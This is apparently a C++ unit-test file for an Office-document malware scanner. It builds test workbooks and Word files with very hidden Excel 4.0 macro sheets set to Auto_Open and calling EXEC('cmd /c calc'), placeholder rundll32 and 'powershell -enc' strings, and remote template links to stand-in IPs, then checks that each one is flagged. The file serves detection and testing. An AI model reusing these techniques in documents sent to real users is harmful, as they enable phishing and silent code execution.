// OOXML packages built in code: an .xlsm-like workbook with a very hidden
// macro sheet and an Auto_Open name, a remote-template .docx, a macro-free
// .docx, and relationship target resolution.
#include <gtest/gtest.h>

#include "formats/ooxml/relationships.h"
#include "formats/ooxml/xml_scan.h"
#include "emogate/scanner.h"
#include "office_fixtures.h"
#include "ovba_builder.h"

using namespace emogate;
using namespace emogate::test;

namespace {

const std::string kRootRels =
    R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
    R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>)";

std::string xlsm(std::string_view state, bool auto_open) {
  std::string types =
      R"(<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">)"
      R"(<Default Extension="xml" ContentType="application/xml"/>)"
      R"(<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>)"
      R"(<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>)";
  std::string workbook =
      R"(<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" )"
      R"(xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>)"
      R"(<sheet name="Sheet1" sheetId="1" r:id="rId1"/>)"
      R"(<sheet name="Macro1" sheetId="2" )" +
      (state.empty() ? std::string() : "state=\"" + std::string(state) + "\" ") +
      R"(r:id="rId2"/></sheets>)" +
      (auto_open ? R"(<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>)"
                 : "") +
      "</workbook>";
  std::string wb_rels =
      R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>)"
      R"(<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>)"
      R"(<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>)"
      R"(</Relationships>)";
  std::string macro =
      R"(<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" )"
      R"(xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>)"
      R"(<row r="1"><c r="A1"><f>EXEC(&quot;cmd /c calc&quot;)</f><v>0</v></c></row>)"
      R"(<row r="2"><c r="A2" t="s"><v>0</v></c></row>)"
      R"(<row r="3"><c r="A3"><f>HALT()</f></c></row></sheetData></xm:macrosheet>)";
  std::string sst =
      R"(<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">)"
      R"(<si><t>rundll32 payload.dll,Run</t></si></sst>)";
  std::string sheet = R"(<?xml version="1.0"?><worksheet><sheetData/></worksheet>)";
  return zip_bytes({{"[Content_Types].xml", types},
                    {"_rels/.rels", kRootRels},
                    {"xl/workbook.xml", workbook},
                    {"xl/_rels/workbook.xml.rels", wb_rels},
                    {"xl/worksheets/sheet1.xml", sheet},
                    {"xl/macrosheets/sheet1.xml", macro},
                    {"xl/sharedStrings.xml", sst}});
}

std::string docx(const std::string& settings_rels) {
  std::string types =
      R"(<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">)"
      R"(<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>)"
      R"(<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>)";
  std::string rels =
      R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>)";
  std::string doc_rels =
      R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/>)"
      R"(<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/info" TargetMode="External"/></Relationships>)";
  std::vector<std::pair<std::string, std::string>> files = {
      {"[Content_Types].xml", types},
      {"_rels/.rels", rels},
      {"word/document.xml", R"(<?xml version="1.0"?><w:document xmlns:w="x"><w:body><w:p/></w:body></w:document>)"},
      {"word/_rels/document.xml.rels", doc_rels},
      {"word/settings.xml", R"(<?xml version="1.0"?><w:settings xmlns:w="x"><w:attachedTemplate r:id="rId1"/></w:settings>)"}};
  if (!settings_rels.empty()) files.emplace_back("word/_rels/settings.xml.rels", settings_rels);
  return zip_bytes(files);
}

}  // namespace

TEST(Ooxml, MacroSheetVeryHiddenWithAutoOpenIsMalicious) {
  auto rep = Scanner(Config{}).scan_file(xlsm("veryHidden", true), "book.xlsm");
  const Finding* f = find_finding(rep, FindingType::xlm_macro);
  ASSERT_TRUE(f) << to_json(rep);
  EXPECT_EQ(f->path, "book.xlsm");
  EXPECT_EQ(f->verdict, Verdict::malicious);
  EXPECT_NE(f->detail.find("sheet 'Macro1' very hidden"), std::string::npos) << f->detail;
  EXPECT_NE(f->detail.find("_xlnm.Auto_Open"), std::string::npos);
  EXPECT_NE(f->detail.find("EXEC"), std::string::npos);
  EXPECT_NE(f->detail.find("rundll32"), std::string::npos);
  const ObjectSummary* text = find_object(rep, "book.xlsm/XLM/Macro1.txt");
  ASSERT_NE(text, nullptr) << to_json(rep);
  EXPECT_EQ(text->type, "xlm_formulas");
  EXPECT_TRUE(text->derived);
}

TEST(Ooxml, VisibleMacroSheetWithoutAutoOpenIsSuspicious) {
  auto rep = Scanner(Config{}).scan_file(xlsm("", false), "book.xlsm");
  const Finding* f = find_finding(rep, FindingType::xlm_macro, {.detail = "sheet 'Macro1' visible"});
  ASSERT_TRUE(f) << to_json(rep);
  EXPECT_EQ(f->verdict, Verdict::suspicious);
}

TEST(Ooxml, RemoteTemplateDocx) {
  std::string settings_rels =
      R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" )"
      R"(Target="http://203.0.113.7/templates/invoice.dotm" TargetMode="External"/></Relationships>)";
  auto rep = Scanner(Config{}).scan_file(docx(settings_rels), "invoice.docx");
  const Finding* f = find_finding(rep, FindingType::remote_template);
  ASSERT_TRUE(f) << to_json(rep);
  EXPECT_NE(f->detail.find("attachedTemplate"), std::string::npos);
  EXPECT_NE(f->detail.find("http://203.0.113.7/templates/invoice.dotm"), std::string::npos);
  EXPECT_EQ(rep.verdict, Verdict::malicious);
  EXPECT_NE(std::find(rep.urls.begin(), rep.urls.end(), "http://203.0.113.7/templates/invoice.dotm"),
            rep.urls.end());
}

TEST(Ooxml, UncTemplateIsRemoteToo) {
  std::string settings_rels =
      R"(<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" )"
      R"(Target="\\198.51.100.2\share\t.dotm" TargetMode="External"/></Relationships>)";
  auto rep = Scanner(Config{}).scan_file(docx(settings_rels), "letter.docx");
  EXPECT_TRUE(has_finding(rep, FindingType::remote_template, {.detail = "\\\\198.51.100.2"})) << to_json(rep);
}

TEST(Ooxml, MacroFreeDocxIsClean) {
  auto rep = Scanner(Config{}).scan_file(docx(""), "clean.docx");
  EXPECT_FALSE(has_finding(rep, FindingType::xlm_macro));
  EXPECT_FALSE(has_finding(rep, FindingType::vba_macro));
  EXPECT_FALSE(has_finding(rep, FindingType::remote_template));
  EXPECT_EQ(rep.verdict, Verdict::clean) << to_json(rep);
  // The hyperlink is only a URL, not a finding.
  EXPECT_NE(std::find(rep.urls.begin(), rep.urls.end(), "https://example.org/info"), rep.urls.end());
}

TEST(Ooxml, ResolveTarget) {
  EXPECT_EQ(ooxml::resolve_target("xl/_rels/workbook.xml.rels", "macrosheets/sheet1.xml"),
            "xl/macrosheets/sheet1.xml");
  EXPECT_EQ(ooxml::resolve_target("xl/_rels/workbook.xml.rels", "/xl/macrosheets/a.xml"),
            "xl/macrosheets/a.xml");
  EXPECT_EQ(ooxml::resolve_target("xl/worksheets/_rels/s.xml.rels", "../../x/../y.bin"), "y.bin");
  EXPECT_EQ(ooxml::resolve_target("_rels/.rels", "word/document.xml"), "word/document.xml");
  EXPECT_TRUE(ooxml::remote_target("mhtml:https://x.example/a!x-usc:https://x.example/a"));
  EXPECT_FALSE(ooxml::remote_target("media/image1.png"));
}

TEST(XmlScan, TolerantOfBrokenMarkup) {
  xml::Scanner sc(R"(<a x="1" y='2'><!-- <b c="no"/> --><b c="&amp;&#65;&#x42;"/><c d="unterminated)");
  xml::Tag t;
  ASSERT_TRUE(sc.next(t));
  EXPECT_EQ(t.name, "a");
  EXPECT_EQ(t.attr("y"), "2");
  ASSERT_TRUE(sc.next(t));
  EXPECT_EQ(t.name, "b");
  EXPECT_TRUE(t.self_closing);
  EXPECT_EQ(xml::unescape(t.attr("c")), "&AB");
  ASSERT_TRUE(sc.next(t));
  EXPECT_EQ(t.name, "c");
  EXPECT_FALSE(sc.next(t));
}

TEST(Ooxml, DeclaredVbaProjectThatIsMissingIsReported) {
  std::string types =
      R"(<Types><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>)";
  auto missing = Scanner(Config{}).scan_file(
      zip_bytes({{"[Content_Types].xml", types}, {"_rels/.rels", "<Relationships/>"}}), "m.docm");
  EXPECT_TRUE(has_finding(missing, FindingType::vba_macro, {.detail = "missing"})) << to_json(missing);
  auto garbage = Scanner(Config{}).scan_file(
      zip_bytes({{"[Content_Types].xml", types}, {"word/vbaProject.bin", "not an OLE file"}}), "g.docm");
  EXPECT_TRUE(has_finding(garbage, FindingType::vba_macro, {.detail = "not an OLE2 file"})) << to_json(garbage);
}

// A signed project: the signature parts (PKCS#7, not OLE2) are declared next
// to the project and must not count as a second project.
TEST(Ooxml, VbaSignaturePartsAreNotProjects) {
  const std::string project = vba_project_bin("Module1", "Sub Hello()\r\nMsgBox \"hi\"\r\nEnd Sub\r\n");
  const std::string pkcs7 = std::string("\x30\x82\x05\x10\x06\x09\x2A\x86\x48\x86\xF7\x0D\x01\x07\x02", 15) +
                            std::string(1300, '\x11');
  for (const std::string dir : {"xl", "word", "ppt"}) {
    std::string types =
        R"(<Types><Override PartName="/)" + dir + R"(/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>)"
        R"(<Override PartName="/)" + dir + R"(/vbaProjectSignature.bin" ContentType="application/vnd.ms-office.vbaProjectSignature"/>)"
        R"(<Override PartName="/)" + dir + R"(/vbaProjectSignatureAgile.bin" ContentType="application/vnd.ms-office.vbaProjectSignatureAgile"/>)"
        R"(<Override PartName="/)" + dir + R"(/vbaProjectSignatureV3.bin" ContentType="application/vnd.ms-office.vbaProjectSignatureV3"/></Types>)";
    auto rep = Scanner(Config{}).scan_file(
        zip_bytes({{"[Content_Types].xml", types}, {"_rels/.rels", "<Relationships/>"},
                   {dir + "/vbaProject.bin", project}, {dir + "/vbaProjectSignature.bin", pkcs7},
                   {dir + "/vbaProjectSignatureAgile.bin", pkcs7}, {dir + "/vbaProjectSignatureV3.bin", pkcs7}}),
        "signed.xlsm");
    int macros = 0;
    for (const auto& f : rep.findings) macros += f.type == FindingType::vba_macro;
    EXPECT_EQ(macros, 1) << to_json(rep);
    EXPECT_FALSE(has_finding(rep, FindingType::vba_macro, {.detail = "not an OLE2 file"})) << to_json(rep);
  }
}

TEST(Ooxml, UncPictureIsRemoteButHttpPictureAndWorkbookLinkAreNot) {
  auto rels = [](std::string type, std::string target) {
    return R"(<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/)" +
           type + R"(" Target=")" + target + R"(" TargetMode="External"/></Relationships>)";
  };
  auto unc = Scanner(Config{}).scan_file(docx(rels("image", "\\\\203.0.113.9\\s\\p.png")), "a.docx");
  EXPECT_TRUE(has_finding(unc, FindingType::remote_template, {.detail = "image"})) << to_json(unc);
  auto http = Scanner(Config{}).scan_file(docx(rels("image", "https://cdn.example/p.png")), "b.docx");
  EXPECT_FALSE(has_finding(http, FindingType::remote_template)) << to_json(http);
  auto link = Scanner(Config{}).scan_file(docx(rels("externalLinkPath", "https://corp.example/b.xlsx")), "c.docx");
  EXPECT_FALSE(has_finding(link, FindingType::remote_template)) << to_json(link);
}

namespace {

std::string varint(std::uint32_t v, int max_bytes) {
  std::string out;
  for (int k = 0; k < max_bytes; ++k) {
    std::uint8_t b = v & 0x7F;
    v >>= 7;
    if (v) b |= 0x80;
    out += char(b);
    if (!v) break;
  }
  return out;
}
std::string rec12(std::uint32_t type, const std::string& data) {
  return varint(type, 2) + varint(std::uint32_t(data.size()), 4) + data;
}
std::string wide(std::string_view s) { return u32(std::uint32_t(s.size())) + utf16(s); }

}  // namespace

TEST(Ooxml, XlsbBinaryMacroSheetWithVisibilityFormulasAndStrings) {
  std::string workbook = rec12(156, u32(2) + u32(1) + wide("rId1") + wide("Macro1")) +
                         rec12(39, u32(0x20) + u8(0) + u32(0xFFFFFFFF) + wide("Auto_Open"));
  std::string rgce = u8(0x17) + u16(4) + utf16("calc") + u8(0x42) + u8(1) + u16(110);
  std::string sheet = rec12(0, u32(0) + std::string(8, '\0')) +
                      rec12(9, u32(0) + u32(0) + std::string(8, '\0') + u16(0) +
                                   u32(std::uint32_t(rgce.size())) + rgce + u32(0)) +
                      rec12(7, u32(1) + u32(0) + u32(0));
  std::string sst = rec12(19, u8(0) + wide("powershell -enc AAAA"));
  std::string rels =
      R"(<Relationships><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.bin"/></Relationships>)";
  std::string root =
      R"(<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.bin"/></Relationships>)";
  auto rep = Scanner(Config{}).scan_file(zip_bytes({{"[Content_Types].xml", "<Types/>"},
                                                    {"_rels/.rels", root},
                                                    {"xl/workbook.bin", workbook},
                                                    {"xl/_rels/workbook.bin.rels", rels},
                                                    {"xl/macrosheets/sheet1.bin", sheet},
                                                    {"xl/sharedStrings.bin", sst}}),
                                         "b.xlsb");
  const Finding* f = find_finding(rep, FindingType::xlm_macro);
  ASSERT_TRUE(f) << to_json(rep);
  EXPECT_EQ(f->verdict, Verdict::malicious);
  EXPECT_NE(f->detail.find("sheet 'Macro1' very hidden"), std::string::npos) << f->detail;
  EXPECT_NE(f->detail.find("Auto_Open"), std::string::npos);
  EXPECT_NE(f->detail.find("EXEC"), std::string::npos);
  EXPECT_NE(f->detail.find("powershell"), std::string::npos) << "shared string reached the text";
}
